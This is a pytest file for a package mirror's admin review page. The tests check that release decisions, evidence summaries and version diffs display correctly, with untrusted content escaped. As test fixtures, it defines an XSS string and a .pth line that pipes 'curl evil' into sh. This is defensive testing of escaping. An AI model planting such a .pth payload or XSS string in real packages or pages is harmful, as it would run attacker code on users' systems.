"""The release page leads with the decision and the evidence in words, then what changed
against the previous admitted release, computed from the inspected archives
(docs/review.md, "Release" and "What changed")."""

import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

from sqlalchemy import update

from mirror.app import create_app
from mirror.db.schema import files
from mirror.services import sync
from tests.support.fake_upstream import FakeUpstream
from tests.web.conftest import make_tokens
from tests.web.test_admin import sign_in

OLD = datetime.now(UTC) - timedelta(days=30)
FRESH = datetime.now(UTC) - timedelta(hours=5)
HOSTILE = '<script>window.__pwned=1</script>"><img src=x onerror=alert(1)>'
STEALER = "import os; os.system('curl evil | sh')  # " + HOSTILE + "\x1b[2J"


def _mirror(make_backends, fake_upstream: FakeUpstream, tmp_path: Path):  # type: ignore[no-untyped-def]
    """app 1.0 admitted; app 2.0 adds a .pth, a console script, a dependency and a module."""
    backends = make_backends()
    build = tmp_path / "build"
    fake_upstream.publish_release("app", "1.0", tmpdir=build, upload_time=OLD, deps=["idna"])
    fake_upstream.publish_release(
        "app",
        "2.0",
        tmpdir=build,
        upload_time=FRESH,
        deps=["idna", "helper" + HOSTILE],
        pth={"app_boot.pth": STEALER + "\n"},
        entry_points={"console_scripts": {"app-run": "app:main"}},
        files={"app/extra_" + "x" * 20 + ".py": b"print(1)\n"},
    )
    sync.refresh(backends, "app")
    client = create_app(backends.config, backends).test_client()
    sign_in(client, make_tokens(backends).secrets["review"])
    return client, backends


def test_the_decision_comes_first_in_words(make_backends, fake_upstream, tmp_path) -> None:  # type: ignore[no-untyped-def]
    client, _backends = _mirror(make_backends, fake_upstream, tmp_path)
    page = client.get("/admin/projects/app/releases/2.0").get_data(as_text=True)
    summary = page[page.index('id="summary"') : page.index('id="diff"')]
    assert "Released by" in summary and "a person: approve" in summary
    assert re.search(r"<dt>Until</dt><dd>until a person decides", summary)
    assert "1</td><td>wheel · pure Python" in summary
    assert (
        "provenance:</strong> " in summary and "content:</strong> 1 new or changed .pth" in summary
    )
    assert "1 new entry point" in summary and "advisories:</strong> none" in summary
    assert "evidence: first_look" not in page and "checked_at" not in summary


def test_the_diff_shows_members_metadata_and_the_pth_text_escaped(
    make_backends, fake_upstream, tmp_path
) -> None:  # type: ignore[no-untyped-def]
    client, _backends = _mirror(make_backends, fake_upstream, tmp_path)
    page = client.get("/admin/projects/app/releases/2.0").get_data(as_text=True)
    diff = page[page.index('id="diff"') :]
    assert "What changed since 1.0" in diff
    assert "app_boot.pth" in diff and "os.system(&#39;curl evil | sh&#39;)" in diff
    assert "&lt;script&gt;window.__pwned=1&lt;/script&gt;" in diff and "\\x1b[2J" in diff
    assert "<script>window" not in page and "<img src=x" not in page and "\x1b" not in page
    assert "+ helper&lt;script&gt;" in diff  # the new dependency, escaped
    assert "app-run = app:main" in diff
    assert "app/extra_" + "x" * 20 + ".py</code></td><td>added" in diff
    assert "*.dist-info/RECORD</code></td><td>changed" in diff
    assert '<details class="family">' in diff


def test_changed_only_when_the_meaning_changed(make_backends, fake_upstream, tmp_path) -> None:  # type: ignore[no-untyped-def]
    backends = make_backends()
    build = tmp_path / "build"
    fake_upstream.publish_release("same", "1.0", tmpdir=build, upload_time=OLD)
    fake_upstream.publish_release("same", "1.1", tmpdir=build, upload_time=FRESH)
    sync.refresh(backends, "same")
    # Provenance checked at different times, with the same outcome.
    for filename, at in (
        ("same-1.0", "2026-01-01T00:00:00Z"),
        ("same-1.1", "2026-02-02T00:00:00Z"),
    ):
        record = {"provenance": {"status": "absent", "checked_at": at, "publisher": None}}
        with backends.engine.begin() as conn:
            conn.execute(
                update(files)
                .where(files.c.filename.startswith(filename.replace("-", "_")))
                .values(evidence=record)
            )
    client = create_app(backends.config, backends).test_client()
    sign_in(client, make_tokens(backends).secrets["review"])
    page = client.get("/admin/projects/same/releases/1.1").get_data(as_text=True)
    summary = page[page.index('id="summary"') : page.index('id="diff"')]
    assert "absent (1 file); same as previous" in summary
    assert ">changed<" not in summary


def test_a_previous_release_never_checked_changes_nothing(
    make_backends, fake_upstream, tmp_path
) -> None:  # type: ignore[no-untyped-def]
    # 1.0 was history at the first look (provenance not checked); 1.1 was checked. Nothing is
    # known to have changed: "not checked" is no meaning to compare with.
    backends = make_backends()
    build = tmp_path / "build"
    fake_upstream.publish_release("hist", "1.0", tmpdir=build, upload_time=OLD)
    fake_upstream.publish_release("hist", "1.1", tmpdir=build, upload_time=FRESH)
    sync.refresh(backends, "hist")
    record = {"provenance": {"status": "absent", "checked_at": "2026-02-02T00:00:00Z"}}
    with backends.engine.begin() as conn:
        conn.execute(update(files).where(files.c.version == "1.0").values(evidence={}))
        conn.execute(update(files).where(files.c.version == "1.1").values(evidence=record))
    client = create_app(backends.config, backends).test_client()
    sign_in(client, make_tokens(backends).secrets["review"])
    page = client.get("/admin/projects/hist/releases/1.1").get_data(as_text=True)
    summary = page[page.index('id="summary"') : page.index('id="diff"')]
    assert "absent (1 file)" in summary
    assert ">changed<" not in summary
